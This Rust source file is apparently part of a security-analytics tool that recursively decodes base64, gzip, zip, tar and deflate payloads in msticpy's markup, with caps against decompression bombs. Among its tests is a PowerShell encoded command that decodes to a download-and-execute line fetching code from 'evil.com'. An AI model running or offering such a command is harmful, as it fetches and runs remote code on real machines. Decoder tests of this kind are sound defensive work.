//! The recursive base64 unpacker behind `b64_unpack` and `b64_items`.
//!
//! Every base64 fragment of a text (msticpy's pattern: 30 or more base64
//! characters) that decodes is replaced by its decoded content in msticpy's
//! markup, and decoded text is searched again, up to [`MAX_DEPTH`] levels:
//!
//! - `<decoded type='string' name='[None]' index='1' depth='1'>text</decoded>`
//! - `<decoded value='binary'  name='[exe]' type='exe' index='1' depth='1'>4d 5a ...</decoded>`
//! - `<decoded value='multiple binary' type='multiple' index='1' depth='1'>`
//!   + one element per archive member (`name='[zip] Filename: a.txt'`) + `</decoded>`
//!
//! Differences from msticpy, on purpose: references follow the tree (the
//! first fragment inside item `1.2` is `1.2.1`, at one depth more; msticpy
//! numbers a level's fragments as it meets them, whatever their parent); a
//! fragment that fails to decode takes no number (in msticpy it does, the
//! first time it is seen in the process); UTF-16 text is detected; raw
//! deflate streams are inflated; items cut short carry `truncated='true'`.

use std::borrow::Cow;
use std::fmt::{self, Write};

use datafusion::common::HashMap;

use md5::{Digest, Md5};
use sha1::Sha1;
use sha2::Sha256;

use super::archive::{members, Budget, Container, Member};
use super::decode::{as_text, decode_fragment, fragments, hex, printable_bytes, Encoding};
use super::filetype::file_type;

/// Decoded text is searched again down to this depth (msticpy's limit).
pub const MAX_DEPTH: usize = 20;
/// At most this many fragments are decoded in one text (msticpy stops a
/// level after 50).
pub const MAX_FRAGMENTS: usize = 50;
/// At most this many items come out of one value.
pub const MAX_ITEMS: usize = 10_000;
/// Default cap on the bytes of one decoded item.
pub const DEFAULT_MAX_ITEM_BYTES: usize = 1 << 20;
/// Default cap on the decoded bytes of all the items of one value.
pub const DEFAULT_MAX_VALUE_BYTES: usize = 4 << 20;
/// Cap on the decoded bytes of all the values of one batch: per-value caps
/// alone would let a batch of 8,192 small decompression bombs claim
/// 8,192 x `max_value_bytes`. Past it, values keep their fragments encoded
/// and carry [`VALUE_TRUNCATED_MARK`].
pub const MAX_BATCH_BYTES: usize = 256 << 20;

/// What the values of one batch have decoded so far, against
/// [`MAX_BATCH_BYTES`].
#[derive(Debug, Default)]
pub(crate) struct BatchBudget {
    spent: usize,
}

impl BatchBudget {
    /// The caps for the next value: `limits`, with no more than what is
    /// left of the batch's budget.
    pub(crate) fn limits(&self, limits: Limits) -> Limits {
        let left = MAX_BATCH_BYTES.saturating_sub(self.spent);
        Limits {
            max_value_bytes: limits.max_value_bytes.min(left),
            ..limits
        }
    }

    pub(crate) fn spend(&mut self, bytes: usize) {
        self.spent = self.spent.saturating_add(bytes);
    }
}

/// The caps that keep a decompression bomb from exhausting memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// The most bytes kept of one decoded item (a fragment's bytes, an
    /// archive member); the rest is dropped and the item marked truncated.
    pub max_item_bytes: usize,
    /// The most decoded bytes for one value, repeats of a fragment included;
    /// fragments beyond it are left as they are.
    pub max_value_bytes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_item_bytes: DEFAULT_MAX_ITEM_BYTES,
            max_value_bytes: DEFAULT_MAX_VALUE_BYTES,
        }
    }
}

/// One decoded item, with msticpy's fields (and `container`, `truncated`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Item {
    /// Where the item is in the markup: `1`, `1.2`, `1.2.1`...
    pub reference: String,
    pub depth: usize,
    /// The base64 fragment as written (for an archive member: the
    /// fragment of the archive).
    pub original_string: String,
    /// The text, when the bytes are text.
    pub decoded_string: Option<String>,
    /// `utf-8`, `utf-16` or `binary`.
    pub encoding: &'static str,
    /// The file type from the header, for binary content.
    pub file_type: Option<&'static str>,
    /// The member's name in its archive, else `unknown`.
    pub file_name: String,
    /// `gz`, `zip`, `tar` or `deflate` for a member of one.
    pub container: Option<&'static str>,
    pub md5: String,
    pub sha1: String,
    pub sha256: String,
    /// The bytes as space-separated hex.
    pub printable_bytes: String,
    /// Cut at `max_item_bytes`, or damaged.
    pub truncated: bool,
}

/// The text with its fragments decoded in place, and the items.
#[derive(Debug)]
pub struct Unpacked<'a> {
    pub text: Cow<'a, str>,
    /// Empty unless asked for.
    pub items: Vec<Item>,
    /// Fragments were left encoded because `max_value_bytes` ran out.
    pub truncated: bool,
}

/// What ends the output when fragments were left encoded for lack of budget.
pub const VALUE_TRUNCATED_MARK: &str = "<decoded truncated='true' reason='max_value_bytes'/>";

/// Decodes every base64 fragment of `text`, recursively; with `with_items`,
/// also lists the items (with their hashes).
pub fn unpack(text: &str, limits: Limits, with_items: bool) -> Unpacked<'_> {
    let mut unpacker = Unpacker::<String>::new(limits, with_items);
    let decoded = unpacker.scan(text, 1, "");
    let mut text = match decoded {
        Some(decoded) => Cow::Owned(decoded),
        None => Cow::Borrowed(text),
    };
    if unpacker.skipped {
        text.to_mut().push_str(VALUE_TRUNCATED_MARK);
    }
    Unpacked {
        text,
        items: unpacker.items,
        truncated: unpacker.skipped,
    }
}

/// The items of [`unpack`]`(text, limits, true)`, without writing the
/// unpacked text (`b64_items` has no use for it): only the markup's length
/// is kept, which is what the value budget is charged for repeats.
pub fn unpack_items(text: &str, limits: Limits) -> Vec<Item> {
    unpack_items_with(text, limits, &mut DigestCache::default())
}

/// [`unpack_items`], taking the hashes and hex dumps of payloads met before
/// from `digests` (and adding the new ones).
pub fn unpack_items_with(text: &str, limits: Limits, digests: &mut DigestCache) -> Vec<Item> {
    let mut unpacker = Unpacker::<MarkupLength>::new(limits, true);
    unpacker.digests = std::mem::take(digests);
    unpacker.scan(text, 1, "");
    *digests = std::mem::take(&mut unpacker.digests);
    unpacker.items
}

/// An item's hashes and hex dump: a function of its bytes alone.
#[derive(Debug, Clone)]
struct Digests {
    md5: String,
    sha1: String,
    sha256: String,
    printable_bytes: String,
}

impl Digests {
    fn of(bytes: &[u8]) -> Self {
        Digests {
            md5: hex(&Md5::digest(bytes)),
            sha1: hex(&Sha1::digest(bytes)),
            sha256: hex(&Sha256::digest(bytes)),
            printable_bytes: printable_bytes(bytes),
        }
    }
}

/// Payload bytes → their [`Digests`], for one batch of `b64_items`: the same
/// payload turns up in many different values (in the shared dev rows, the
/// 71 distinct values with base64 hold 97 items but 58 distinct payloads),
/// and three hashes and a hex dump cost more than looking them up.
#[derive(Debug, Default)]
pub struct DigestCache {
    digests: HashMap<Vec<u8>, Digests>,
    bytes: usize,
}

impl DigestCache {
    /// What the cache may hold (payloads and their dumps), beyond which new
    /// payloads are computed but not kept.
    const MAX_BYTES: usize = 64 << 20;

    fn digests(&mut self, bytes: &[u8]) -> Digests {
        if let Some(found) = self.digests.get(bytes) {
            return found.clone();
        }
        let digests = Digests::of(bytes);
        let cost = bytes.len() * 4 + 256;
        if self.bytes + cost <= Self::MAX_BYTES {
            self.bytes += cost;
            self.digests.insert(bytes.to_vec(), digests.clone());
        }
        digests
    }
}

/// Where the unpacker writes its markup: the text itself, or only its
/// length (the budget needs the length of a repeated fragment's markup).
trait Markup: Default + Clone + Write {
    fn len(&self) -> usize;
    fn push_markup(&mut self, other: &Self);
    /// `bytes` as [`printable_bytes`].
    fn push_hex(&mut self, bytes: &[u8]);
}

impl Markup for String {
    fn len(&self) -> usize {
        String::len(self)
    }

    fn push_markup(&mut self, other: &Self) {
        self.push_str(other);
    }

    fn push_hex(&mut self, bytes: &[u8]) {
        self.push_str(&printable_bytes(bytes));
    }
}

/// The length of markup that is not written.
#[derive(Debug, Default, Clone, Copy)]
struct MarkupLength(usize);

impl Write for MarkupLength {
    fn write_str(&mut self, s: &str) -> fmt::Result {
        self.0 += s.len();
        Ok(())
    }
}

impl Markup for MarkupLength {
    fn len(&self) -> usize {
        self.0
    }

    fn push_markup(&mut self, other: &Self) {
        self.0 += other.0;
    }

    fn push_hex(&mut self, bytes: &[u8]) {
        // Two digits a byte, spaces between.
        self.0 += (bytes.len() * 3).saturating_sub(1);
    }
}

struct Unpacker<M> {
    budget: Budget,
    with_items: bool,
    items: Vec<Item>,
    item_count: usize,
    /// Fragment → its markup: a fragment seen again is shown the same way
    /// (msticpy replaces every occurrence) and listed once.
    seen: HashMap<String, M>,
    skipped: bool,
    digests: DigestCache,
}

/// Where an item's bytes come from.
struct Source<'a> {
    fragment: &'a str,
    container: Option<Container>,
    file_name: String,
    truncated: bool,
}

impl<M: Markup> Unpacker<M> {
    fn new(limits: Limits, with_items: bool) -> Self {
        Unpacker {
            budget: Budget {
                item: limits.max_item_bytes,
                remaining: limits.max_value_bytes,
            },
            with_items,
            items: Vec::new(),
            item_count: 0,
            seen: HashMap::new(),
            skipped: false,
            digests: DigestCache::default(),
        }
    }

    /// `text` with its fragments decoded; `None` when nothing was.
    fn scan(&mut self, text: &str, depth: usize, prefix: &str) -> Option<M> {
        if depth > MAX_DEPTH {
            return None;
        }
        let mut out = M::default();
        let mut last = 0;
        let mut index = 0;
        for m in fragments(text) {
            let fragment = &text[m.clone()];
            let markup = if let Some(markup) = self.seen.get(fragment) {
                if markup.len() > self.budget.remaining {
                    self.skipped = true;
                    continue;
                }
                self.budget.spend(markup.len());
                markup.clone()
            } else {
                if index >= MAX_FRAGMENTS || self.item_count >= MAX_ITEMS {
                    continue;
                }
                if self.budget.remaining == 0 {
                    self.skipped = true;
                    continue;
                }
                // Malformed base64 stays as it is.
                let Some(bytes) = decode_fragment(fragment) else {
                    continue;
                };
                index += 1;
                let markup = self.fragment(fragment, bytes, depth, &format!("{prefix}{index}"));
                self.seen.insert(fragment.to_string(), markup.clone());
                markup
            };
            let _ = out.write_str(&text[last..m.start]);
            out.push_markup(&markup);
            last = m.end;
        }
        if last == 0 {
            return None;
        }
        let _ = out.write_str(&text[last..]);
        Some(out)
    }

    /// The markup of one decoded fragment.
    fn fragment(&mut self, fragment: &str, mut bytes: Vec<u8>, depth: usize, reference: &str) -> M {
        // An archive is read whole (its size is bounded by the text's) and
        // its members are what the budget pays for.
        let container = match file_type(&bytes) {
            Some("gz") => Some(Container::Gz),
            Some("zip") => Some(Container::Zip),
            Some("tar") => Some(Container::Tar),
            _ => None,
        };
        if let Some(container) = container {
            if let Some(members) = members(container, &bytes, &mut self.budget) {
                return self.archive(fragment, container, members, depth, reference);
            }
        }
        let allowance = self.budget.allowance();
        let truncated = bytes.len() > allowance;
        bytes.truncate(allowance);
        self.budget.spend(bytes.len());
        let source = Source {
            fragment,
            container: None,
            file_name: "unknown".to_string(),
            truncated,
        };
        self.item(source, bytes, depth, reference)
    }

    /// An archive's members: one is shown in the archive's place, several
    /// inside a `multiple binary` element, one depth down.
    fn archive(
        &mut self,
        fragment: &str,
        container: Container,
        mut members: Vec<Member>,
        depth: usize,
        reference: &str,
    ) -> M {
        let source = |m: &Member| Source {
            fragment,
            container: Some(container),
            file_name: m.name.clone(),
            truncated: m.truncated,
        };
        if members.len() == 1 {
            let member = members.remove(0);
            return self.item(source(&member), member.bytes, depth, reference);
        }
        let mut out = M::default();
        let _ = write!(
            out,
            "<decoded value='multiple binary' type='multiple' index='{reference}' depth='{depth}'>"
        );
        for (k, member) in members.into_iter().enumerate() {
            let child = format!("{reference}.{}", k + 1);
            let markup = self.item(source(&member), member.bytes, depth + 1, &child);
            out.push_markup(&markup);
        }
        let _ = out.write_str("</decoded>");
        out
    }

    /// One item: listed, and shown as text (searched again) or as bytes.
    fn item(&mut self, source: Source<'_>, bytes: Vec<u8>, depth: usize, reference: &str) -> M {
        self.item_count += 1;
        let (encoding, text) = as_text(&bytes);
        let binary_type = match encoding {
            Encoding::Binary => file_type(&bytes),
            _ => None,
        };
        let name = match source.container {
            Some(c) => format!("[{}] Filename: {}", c.name(), source.file_name),
            None => format!("[{}]", binary_type.unwrap_or("None")),
        };
        let truncated = if source.truncated {
            " truncated='true'"
        } else {
            ""
        };
        // Listed before the items found inside it; its text is filled in
        // once the search inside is done with it.
        let slot = self.with_items.then(|| {
            let Digests {
                md5,
                sha1,
                sha256,
                printable_bytes,
            } = self.digests.digests(&bytes);
            self.items.push(Item {
                reference: reference.to_string(),
                depth,
                original_string: source.fragment.to_string(),
                decoded_string: None,
                encoding: encoding.name(),
                file_type: binary_type,
                file_name: source.file_name.clone(),
                container: source.container.map(Container::name),
                md5,
                sha1,
                sha256,
                printable_bytes,
                truncated: source.truncated,
            });
            self.items.len() - 1
        });
        let mut out = M::default();
        if let Some(text) = text {
            let inner = self.scan(&text, depth + 1, &format!("{reference}."));
            let _ = write!(
                out,
                "<decoded type='string' name='{name}' index='{reference}' depth='{depth}'{truncated}>"
            );
            match &inner {
                Some(inner) => out.push_markup(inner),
                None => {
                    let _ = out.write_str(&text);
                }
            }
            let _ = out.write_str("</decoded>");
            if let Some(slot) = slot {
                self.items[slot].decoded_string = Some(text.into_owned());
            }
            return out;
        }
        let shown_type = binary_type.unwrap_or("None");
        // Binary of no known type may be a raw deflate stream (PowerShell's
        // IO.Compression.DeflateStream): shown inflated when that gives text
        // or a known file.
        let inflated = if binary_type.is_none() && source.container.is_none() {
            self.inflate(source.fragment, &bytes, depth, reference)
        } else {
            None
        };
        let _ = write!(
            out,
            "<decoded value='binary'  name='{name}' type='{shown_type}' index='{reference}' depth='{depth}'{truncated}>"
        );
        match &inflated {
            Some(inflated) => out.push_markup(inflated),
            None => out.push_hex(&bytes),
        }
        let _ = out.write_str("</decoded>");
        out
    }

    fn inflate(
        &mut self,
        fragment: &str,
        bytes: &[u8],
        depth: usize,
        reference: &str,
    ) -> Option<M> {
        if self.budget.remaining == 0 {
            return None;
        }
        let member = members(Container::Deflate, bytes, &mut self.budget)?.pop()?;
        let useful =
            as_text(&member.bytes).0 != Encoding::Binary || file_type(&member.bytes).is_some();
        if !useful {
            return None;
        }
        let source = Source {
            fragment,
            container: Some(Container::Deflate),
            file_name: member.name.clone(),
            truncated: member.truncated,
        };
        Some(self.item(source, member.bytes, depth + 1, &format!("{reference}.1")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ::base64::Engine;
    use flate2::write::{DeflateEncoder, GzEncoder};
    use flate2::Compression;

    #[test]
    fn a_spent_batch_budget_leaves_fragments_encoded() {
        let text = "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwbGFpbiB1dGY4IGJhc2U2NCB0ZXN0";
        let mut budget = BatchBudget::default();
        let first = unpack(text, budget.limits(Limits::default()), false);
        assert!(
            first.text.contains("<decoded type='string'"),
            "{}",
            first.text
        );
        budget.spend(MAX_BATCH_BYTES);
        let spent = unpack(text, budget.limits(Limits::default()), false);
        assert!(spent.truncated);
        assert!(spent.text.starts_with(text), "{}", spent.text);
        assert!(spent.text.ends_with(VALUE_TRUNCATED_MARK), "{}", spent.text);
    }
    use std::io::Write;

    fn b64(bytes: &[u8]) -> String {
        ::base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    fn unpack_text(text: &str) -> String {
        unpack(text, Limits::default(), false).text.into_owned()
    }

    #[test]
    fn msticpys_markup_for_strings_and_nesting() {
        assert_eq!(
            unpack_text("x Zmlyc3QgZGVjb2RlZCBwYXlsb2FkIHN0cmluZyBoZXJlISE= y c2Vjb25kIGRlY29kZWQgcGF5bG9hZCBzdHJpbmcgaGVyZSE= z Zmlyc3QgZGVjb2RlZCBwYXlsb2FkIHN0cmluZyBoZXJlISE="),
            "x <decoded type='string' name='[None]' index='1' depth='1'>first decoded payload string here!!</decoded> y <decoded type='string' name='[None]' index='2' depth='1'>second decoded payload string here!</decoded> z <decoded type='string' name='[None]' index='1' depth='1'>first decoded payload string here!!</decoded>"
        );
        assert_eq!(
            unpack_text("cmd ZWNobyBkR2hwY3lCcGN5QjBhR1VnYVc1dVpYSnRiM04wSUhCc1lXbHVkR1Y0ZENCemRISnBibWNo"),
            "cmd <decoded type='string' name='[None]' index='1' depth='1'>echo <decoded type='string' name='[None]' index='1.1' depth='2'>this is the innermost plaintext string!</decoded></decoded>"
        );
        // 30 characters do not decode without padding: left as they are.
        assert_eq!(
            unpack_text("abcdefghijklmnopqrstuvwxyzABCD"),
            "abcdefghijklmnopqrstuvwxyzABCD"
        );
    }

    #[test]
    fn powershell_encoded_command_is_read_as_utf16() {
        let out = unpack_text("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGMAbwBtAC8AYQAnACkA");
        assert_eq!(out, "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a')</decoded>");
    }

    #[test]
    fn gzip_and_deflate_payloads() {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(b"Write-Output 'gzip payload'").unwrap();
        let text = format!("FromBase64String('{}')", b64(&gz.finish().unwrap()));
        let out = unpack(&text, Limits::default(), true);
        assert_eq!(out.text, "FromBase64String('<decoded type='string' name='[gz] Filename: gzip_file' index='1' depth='1'>Write-Output 'gzip payload'</decoded>')");
        assert_eq!(out.items[0].container, Some("gz"));

        let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
        deflate
            .write_all(b"Write-Output 'deflate payload, compressed'")
            .unwrap();
        let text = format!(
            "DeflateStream([Convert]::FromBase64String('{}'))",
            b64(&deflate.finish().unwrap())
        );
        let out = unpack(&text, Limits::default(), true);
        assert!(out.text.contains("<decoded type='string' name='[deflate] Filename: deflate_stream' index='1.1' depth='2'>Write-Output 'deflate payload, compressed'</decoded>"), "{}", out.text);
        assert_eq!(out.items.len(), 2);
        assert_eq!(
            (out.items[0].encoding, out.items[1].container),
            ("binary", Some("deflate"))
        );
    }

    #[test]
    fn bombs_are_capped_and_marked() {
        let mut gz = GzEncoder::new(Vec::new(), Compression::best());
        // Spaces: the decompressed text holds no base64 to decode again.
        gz.write_all(&vec![b' '; 20 << 20]).unwrap();
        let fragment = b64(&gz.finish().unwrap());
        let limits = Limits {
            max_item_bytes: 1000,
            max_value_bytes: 5000,
        };
        let out = unpack(&fragment, limits, true);
        assert_eq!(out.items.len(), 1);
        assert!(out.items[0].truncated);
        assert_eq!(
            out.items[0].decoded_string.as_ref().map(String::len),
            Some(1000)
        );
        assert!(out.text.contains("truncated='true'"));

        // The same bomb repeated: each copy costs the value budget.
        let text = vec![fragment.as_str(); 100].join(" ");
        let out = unpack(&text, limits, false);
        // Without the text, the budget is charged the same.
        let mixed = format!(
            "{text} {}",
            b64(b"a late fragment, after the budget ran out")
        );
        assert_eq!(
            unpack_items(&mixed, limits),
            unpack(&mixed, limits, true).items
        );
        assert!(out.truncated && out.text.ends_with(VALUE_TRUNCATED_MARK));
        assert!(out.text.len() < text.len() + 6 * 1200);
    }

    #[test]
    fn digests_from_the_batch_cache_are_the_ones_computed() {
        let payload = b64(b"a payload shared by different command lines");
        let texts = [
            format!("cmd /c {payload}"),
            format!("powershell -x {payload} -y"),
            format!(
                "{payload} {}",
                b64(b"and one that is not shared, long enough")
            ),
        ];
        let mut cache = DigestCache::default();
        for text in &texts {
            assert_eq!(
                unpack_items_with(text, Limits::default(), &mut cache),
                unpack_items(text, Limits::default()),
                "{text}"
            );
        }
        assert_eq!(cache.digests.len(), 2);
    }

    #[test]
    fn malformed_base64_is_left_alone() {
        let text = "abcdefghijklmnopqrstuvwxyzABCDE is not base64; neither is ====";
        assert_eq!(unpack_text(text), text);
    }
}
